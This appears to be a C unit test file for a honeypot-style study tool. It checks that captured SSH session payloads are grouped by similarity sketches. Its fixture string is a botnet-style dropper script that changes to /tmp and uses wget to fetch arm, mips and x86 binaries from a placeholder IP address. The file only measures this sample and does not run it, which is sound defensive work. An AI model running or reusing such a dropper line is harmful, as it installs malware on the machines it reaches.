/* test_payloads.c - sketches of what nodes brought. */
#include "testing.h"

#include "study.h"

enum { A = 0x0a000001, B = 0x0a000002, C = 0x0a000003 };

static const char script[] = "#!/bin/sh\ncd /tmp || cd /var/run\nfor a in arm mips x86; do\nwget "
			     "http://198.51.100.7/$a\ndone\n";

static const struct payload_sketch *
sketch_of(const struct study *s, uint32_t ip)
{
	return &s->m.payloads[study_node(s, ip, SERVICE_SSH)];
}

static void
test_same_text_same_sketch(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	const struct payload_sketch *x, *y;

	(void)state;
	batch_add(b, &(struct batch_session){ .ip = A, .at_s = 0, .payload = script });
	batch_add(b, &(struct batch_session){ .ip = A, .at_s = 5, .payload = script });
	batch_add(b, &(struct batch_session){ .ip = B, .at_s = 1, .forward = script });
	batch_add(b, &(struct batch_session){ .ip = C, .at_s = 2, .payload = "too short" });
	study_begin(&s, b, NULL);
	x = sketch_of(&s, A);
	y = sketch_of(&s, B);
	assert_int_equal(x->n, PAYLOAD_SKETCH);
	assert_int_equal(y->n, x->n);
	assert_memory_equal(x->smallest, y->smallest, x->n * sizeof(*x->smallest));
	assert_true(x->identity == y->identity);
	assert_string_equal(x->text, script);
	for (uint32_t i = 1; i < x->n; i++)
		assert_true(x->smallest[i - 1] < x->smallest[i]);
	assert_int_equal(sketch_of(&s, C)->n, 0);
	study_end(&s);
}

static void
test_other_text_other_identity(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	const struct payload_sketch *x, *y;
	uint32_t both = 0;
	char salted[sizeof(script) + 8];

	(void)state;
	(void)snprintf(salted, sizeof(salted), "%s# 17\n", script);
	batch_add(b, &(struct batch_session){ .ip = A, .payload = script });
	batch_add(b, &(struct batch_session){ .ip = B, .payload = salted });
	study_begin(&s, b, NULL);
	x = sketch_of(&s, A);
	y = sketch_of(&s, B);
	assert_true(x->identity != y->identity);
	for (uint32_t i = 0; i < x->n; i++)
		for (uint32_t j = 0; j < y->n; j++)
			both += x->smallest[i] == y->smallest[j];
	assert_true(both > PAYLOAD_SKETCH / 2);
	study_end(&s);
}

/* Short commands are no payload, a long one is. */
static void
test_commands(void **state)
{
	struct batch *b = batch_new();
	struct study s;
	char line[129];

	(void)state;
	for (size_t i = 0; i < 128; i++)
		line[i] = (char)('a' + i * i % 26);
	line[128] = 0;
	batch_add(b, &(struct batch_session){ .ip = A, .commands = { line } });
	line[127] = 0;
	batch_add(b, &(struct batch_session){ .ip = B, .commands = { line } });
	study_begin(&s, b, NULL);
	assert_true(sketch_of(&s, A)->n > 0);
	assert_int_equal(sketch_of(&s, B)->n, 0);
	study_end(&s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_same_text_same_sketch),
		cmocka_unit_test(test_other_text_other_identity),
		cmocka_unit_test(test_commands),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
